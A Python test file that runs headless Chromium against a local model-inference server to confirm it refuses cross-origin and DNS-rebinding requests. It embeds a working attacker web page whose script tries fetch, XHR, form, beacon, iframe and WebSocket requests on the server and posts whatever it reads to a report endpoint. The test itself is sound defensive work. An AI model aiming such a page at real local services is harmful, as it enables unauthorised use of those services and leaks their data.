"""A real browser with an attacker's pages open: none of them makes the model work, or reads what the server says.

The pages come from another port of the same address, from another name that resolves to it, and from a name that is
rebound: http://rebound.example:PORT, with PORT the server's, whose first answer is the attacker's page and whose others
are the server's. Each page tries all that a page can, reports what it could read to where it came from, and is thereby
known to have run to its end. The same pages do use a server that is not guarded, which shows that they could.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import queue
import re
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.inference_code.artifacts import Server, doubling_artifact

pytestmark = pytest.mark.slow

REPORT_SECONDS = 90
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-proxy-server",
)  # fmt: skip
RELAYED = ("/invocations", "/metrics", "/ping")

PAGE = """<!doctype html><title>an attacker's page</title><body><script>
const server = new URLSearchParams(location.search).get("server");
const item = () => new File(['{"x": [1, 2, 3]}'], "a.json", {type: "application/json"});
const form = () => { const made = new FormData(); made.append("a", item()); return made; };
const fetched = async (path, options) => {
  const answer = await fetch(server + path, options);
  return {status: answer.status, text: await answer.text()};
};
const requested = (method, path, body) => new Promise((resolve) => {
  const request = new XMLHttpRequest();
  request.open(method, server + path);
  request.onloadend = () => resolve({status: request.status, text: request.responseText});
  request.send(body);
});
const framed = (begin) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.name = "frame" + Math.random();
  document.body.append(frame);
  const text = () => frame.contentDocument?.body?.innerText ?? "";  // null for another origin
  frame.onload = () => resolve({status: 0, text: text()});
  begin(frame);
});
const submitted = (frame) => {
  const made = document.createElement("form");
  made.method = "POST"; made.enctype = "multipart/form-data"; made.target = frame.name;
  made.action = server + "/invocations";
  const input = document.createElement("input");
  input.type = "file"; input.name = "a";
  const files = new DataTransfer();
  files.items.add(item());
  input.files = files.files;
  made.append(input); document.body.append(made); made.submit();
};
const loaded = (kind, path) => new Promise((resolve) => {
  const element = document.createElement(kind);
  element.onload = element.onerror = () => resolve({status: 0, text: ""});
  element.src = server + path;
  document.body.append(element);
});
const connected = () => new Promise((resolve) => {
  const socket = new WebSocket(server.replace("http", "ws") + "/invocations");
  socket.onopen = () => resolve({status: 101, text: "open"});
  socket.onerror = () => resolve({status: 0, text: ""});
});
const json = {"Content-Type": "application/json"};
const attempts = {
  "fetch, cors": () => fetched("/invocations", {method: "POST", body: form()}),
  "fetch, no-cors": () => fetched("/invocations", {method: "POST", body: form(), mode: "no-cors"}),
  "fetch, no referrer": () => fetched("/invocations", {method: "POST", body: form(), referrerPolicy: "no-referrer"}),
  "fetch, preflight": () => fetched("/invocations", {method: "POST", body: '{"x": [1, 2, 3]}', headers: json}),
  "xhr": () => requested("POST", "/invocations", form()),
  "form": () => framed(submitted),
  "beacon": async () => ({status: 0, text: "", sent: navigator.sendBeacon(server + "/invocations", form())}),
  "metrics, cors": () => fetched("/metrics", {}),
  "metrics, no-cors": () => fetched("/metrics", {mode: "no-cors"}),
  "metrics, xhr": () => requested("GET", "/metrics"),
  "metrics, frame": () => framed((frame) => { frame.src = server + "/metrics"; }),
  "metrics, script": () => loaded("script", "/metrics"),
  "ping, image": () => loaded("img", "/ping"),
  "websocket": connected,
};
(async () => {
  const found = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { found[name] = await attempt(); } catch (error) { found[name] = {status: 0, text: "", error: String(error)}; }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""
ATTEMPTS = set(re.findall(r'^  "([^"]+)": ', PAGE, re.MULTILINE))
RUNS_MODEL = {"fetch, cors", "fetch, no-cors", "fetch, no referrer", "xhr", "form", "beacon"}

Report = dict[str, dict[str, Any]]


class Attacker(ThreadingHTTPServer):
    """Serves the page and takes its report. Requests for the server are passed on to it with the browser's headers."""

    daemon_threads = True

    def __init__(self, server: Server) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.target = int(server.url.rpartition(":")[2])
        self.reports: queue.Queue[Report] = queue.Queue()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def relayed(self, handler: BaseHTTPRequestHandler, body: bytes) -> tuple[int, list[tuple[str, str]], bytes]:
        connection = http.client.HTTPConnection("127.0.0.1", self.target, timeout=30)
        with contextlib.closing(connection):
            connection.putrequest(handler.command, handler.path, skip_host=True, skip_accept_encoding=True)
            for name, value in handler.headers.items():
                connection.putheader(name, value)
            connection.endheaders(body)
            answer = connection.getresponse()
            return answer.status, answer.getheaders(), answer.read()


class _Handler(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        if self.path in RELAYED:
            self._answer(*self.server.relayed(self, b""))
        elif self.path.startswith("/page"):
            self._answer(200, [("Content-Type", "text/html; charset=utf-8")], PAGE.encode())
        else:
            self._answer(404, [], b"")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        if self.path in RELAYED:
            self._answer(*self.server.relayed(self, body))
        else:
            self._answer(200, [], b"")
            self.server.reports.put(json.loads(body))

    def _answer(self, status: int, headers: list[tuple[str, str]], body: bytes) -> None:
        self.send_response(status)
        for name, value in headers:
            if name.lower() not in ("content-length", "connection"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *arguments: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="session")
def chromium() -> str:
    found = shutil.which("chromium")
    if found is None:
        pytest.skip("NO BROWSER: nothing shows that a real page cannot use the server; apt-get install chromium")
    return found


@contextlib.contextmanager
def browser(chromium: str, folder: Path, url: str, rules: str) -> Iterator[None]:
    """A browser that has `url` open, with a profile of its own; its processes are ended on the way out."""
    command = [chromium, *FLAGS, "--remote-debugging-port=0", f"--user-data-dir={folder / 'profile'}"]
    with (folder / "chromium.log").open("wb") as log:
        process = subprocess.Popen(
            [*command, f"--host-resolver-rules={rules}", url], stdout=log, stderr=log, start_new_session=True
        )
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def report_of(chromium: str, folder: Path, server: Server, page: str, target: str) -> Report:
    """What the page at `page` reports of its attempts on `target`, both with PORT and OTHER for the two ports."""
    with Attacker(server) as attacker:

        def with_ports(text: str) -> str:
            return text.replace("PORT", str(attacker.target)).replace("OTHER", str(attacker.server_port))

        rules = with_ports("MAP rebound.example:PORT 127.0.0.1:OTHER, MAP evil.example 127.0.0.1")
        with browser(chromium, folder, with_ports(f"{page}/page?server={target}"), rules):
            try:
                return attacker.reports.get(timeout=REPORT_SECONDS)
            except queue.Empty:
                raise AssertionError(f"no report: {(folder / 'chromium.log').read_text()[-3000:]}") from None
            finally:
                attacker.shutdown()


def counted(server: Server) -> tuple[float, float]:
    """Batches that the model was called with, and requests that were refused; asked by a client that is no browser."""
    text = server.request("/metrics").body.decode()
    batches = re.findall(r"^endpoint_batch_items_count\S* (\S+)$", text, re.MULTILINE)
    refused = re.findall(r'^endpoint_requests_total\{status="403"\} (\S+)$', text, re.MULTILINE)
    return sum(map(float, batches)), sum(map(float, refused))


PAGES = {
    "another port": ("http://127.0.0.1:OTHER", "http://127.0.0.1:PORT"),
    "another port, by name": ("http://localhost:OTHER", "http://localhost:PORT"),
    "another name": ("http://evil.example:OTHER", "http://localhost:PORT"),
    "a name of the attacker's": ("http://evil.example:OTHER", "http://evil.example:PORT"),
    "a rebound name": ("http://rebound.example:PORT", "http://rebound.example:PORT"),
}


@pytest.mark.parametrize("kind", sorted(PAGES))
def test_a_page_neither_runs_the_model_nor_reads_anything(chromium: str, tmp_path: Path, kind: str) -> None:
    server = Server(doubling_artifact(tmp_path / "a"), tmp_path / "log")
    try:
        report = report_of(chromium, tmp_path, server, *PAGES[kind])
        batches, refused = counted(server)
        assert report.keys() == ATTEMPTS
        assert batches == 0
        assert refused >= len(ATTEMPTS) - 1  # the beacon may still be on its way
        for name, found in report.items():
            assert found["status"] in (0, 403), (name, found)
            if kind == "a rebound name":  # of its own origin: it may read that it is refused
                assert found["text"] == "" or json.loads(found["text"])["error"] == "forbidden", (name, found)
            else:
                assert found["text"] == "", (name, found)
        assert server.request(body=b'{"x": [1, 2, 3]}', Content_Type="application/json").status == 200
    finally:
        assert server.stop() == 0
    statuses = [line["status"] for line in server.lines if line.get("event") == "request"]
    assert sorted(statuses) == [200] + [403] * (len(statuses) - 1)


@pytest.mark.parametrize("kind", ["another port", "a rebound name"])
def test_the_same_page_does_use_a_server_without_the_guard(chromium: str, tmp_path: Path, kind: str) -> None:
    """On 0.0.0.0 nothing is checked: were it so on a loopback address, the test above would fail."""
    server = Server(doubling_artifact(tmp_path / "a"), tmp_path / "log", None, "--host", "0.0.0.0")
    try:
        report = report_of(chromium, tmp_path, server, *PAGES[kind])
        batches, refused = counted(server)
        assert report.keys() == ATTEMPTS
        assert (batches >= len(RUNS_MODEL) - 1, refused) == (True, 0)  # the beacon may still be on its way
        read = {name for name, found in report.items() if found["text"]}
        if kind == "a rebound name":
            assert {"fetch, cors", "xhr", "form", "metrics, cors", "metrics, xhr", "metrics, frame"} <= read
        else:
            assert read == set()
    finally:
        assert server.stop() == 0


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_the_user_may_look_at_the_metrics_in_a_browser(chromium: str, tmp_path: Path, host: str) -> None:
    server = Server(doubling_artifact(tmp_path / "a"), tmp_path / "log")
    port = server.url.rpartition(":")[2]
    command = [
        chromium,
        *FLAGS,
        f"--user-data-dir={tmp_path / 'profile'}",
        "--dump-dom",
        f"http://{host}:{port}/metrics",
    ]
    try:
        shown = subprocess.run(command, capture_output=True, text=True, timeout=REPORT_SECONDS, check=False).stdout
    finally:
        assert server.stop() == 0
    assert "endpoint_requests_inside 0" in shown
